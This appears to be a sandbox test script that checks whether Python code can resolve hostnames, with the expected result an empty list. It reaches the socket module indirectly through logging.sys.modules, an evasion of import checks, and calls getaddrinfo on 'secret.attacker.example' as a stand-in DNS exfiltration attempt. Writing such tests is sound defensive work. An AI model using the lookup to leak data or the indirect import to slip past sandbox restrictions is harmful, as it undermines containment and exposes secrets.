# tries: Asks for the addresses of names, to send data out by questions to a name server.
# must: returns []
import logging


async def main():
    reached = []
    network = logging.sys.modules["socket"]
    for attempt in (
        lambda: network.getaddrinfo("secret.attacker.example", 80),
        lambda: network.gethostbyname("localhost"),
        lambda: network.gethostname(),
        lambda: network.getfqdn(),
    ):
        try:
            found = attempt()
            if found not in ("localhost", "wasi", "(none)", ""):
                reached.append(repr(found))
        except (OSError, AttributeError):
            continue
    return reached
